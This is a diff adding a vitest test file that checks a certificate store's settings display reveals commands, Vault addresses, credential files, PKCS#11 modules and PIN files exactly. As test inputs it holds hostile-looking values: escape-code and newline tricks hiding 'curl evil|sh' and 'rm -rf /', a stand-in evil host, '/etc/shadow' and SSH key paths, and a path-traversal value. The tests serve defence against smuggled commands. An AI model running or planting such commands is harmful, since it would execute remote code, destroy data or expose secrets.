@@ -1,0 +1,62 @@
+/** What a person agrees to of a shared store: every value that runs or sends something, and its exact form. */
+
+import { afterAll, expect, test } from 'vitest';
+import type { ApiCa } from '../../../src/core/domain/external-ca.ts';
+import { storeSettings } from '../../../src/core/domain/store-settings.ts';
+import { CertificateFactory } from '../../support/certificate-factory.ts';
+
+const factory = new CertificateFactory();
+afterAll(() => factory.remove());
+const [root, other] = [factory.issue('root', { ca: true }), factory.issue('other', { ca: true })];
+
+const vault: ApiCa = {
+  ...{ kind: 'vault', url: 'https://vault:8200/v1/pki', trust: root.cert, credentialFile: '/run/token' },
+  profiles: { server: 's', client: 'c', issuer: 'root/sign-intermediate' },
+};
+const token = { uri: 'pkcs11:object=ca', module: '/usr/lib/softhsm.so', pinFile: '/run/pin' };
+
+test('command, address, file, root, module and PIN are all shown', () => {
+  expect(storeSettings({ external: { kind: 'command', command: 'sign {days}' } })?.values).toEqual([
+    ['runs', 'sign {days}'],
+  ]);
+  expect(storeSettings({ external: vault })?.values).toEqual([
+    ['sends to', 'vault at https://vault:8200/v1/pki'],
+    ['the file', '/run/token'],
+    ['for', 's, c, root/sign-intermediate'],
+    ['TLS root', expect.stringMatching(/^root, ([0-9A-F]{2}:){31}/)],
+  ]);
+  expect(storeSettings({ token })?.values.map(([, value]) => value)).toEqual(Object.values(token));
+  expect(storeSettings({})).toBeUndefined();
+});
+
+test('another value is another id', () => {
+  const ids = [
+    { external: vault },
+    { external: { ...vault, kind: 'cfssl' as const } },
+    { external: { ...vault, url: 'https://evil:8200/v1/pki' } },
+    { external: { ...vault, credentialFile: '/root/.ssh/id_ed25519' } },
+    { external: { ...vault, passphraseFile: '/etc/shadow' } },
+    { external: { ...vault, trust: other.cert } },
+    { external: { ...vault, trust: root.cert + other.cert } },
+    { external: { ...vault, profiles: { ...vault.profiles, issuer: '../sys/seal' } } },
+    { token },
+    { token: { ...token, module: '/tmp/evil.so' } },
+    { token: { ...token, pinFile: '/etc/shadow' } },
+    { token: { ...token, uri: 'pkcs11:object=b' } },
+  ].map((signer) => storeSettings(signer)?.id);
+  expect(new Set(ids).size).toBe(ids.length);
+});
+
+test.each([
+  ['an escape code', 'sign \x1b];curl evil|sh #\x07', 'sign \\u{1b}];curl evil|sh #\\u{7}'],
+  ['a letter without width', 'si\u200bgn', 'si\\u{200b}gn'],
+  ['a line of its own', 'sign\nrm -rf /', 'sign\\u{a}rm -rf /'],
+  ['many blanks', 'sign   x', 'sign\\u{20}\\u{20} x'],
+])('%s hides nothing of a command', (_, command, shown) => {
+  expect(storeSettings({ external: { kind: 'command', command } })?.values).toEqual([['runs', shown]]);
+});
+
+test('a value that nobody would read to its end is refused', () => {
+  const command = `sign ${'x'.repeat(1000)}; curl evil`;
+  expect(() => storeSettings({ external: { kind: 'command', command } })).toThrow(/too long to be agreed to/);
+});
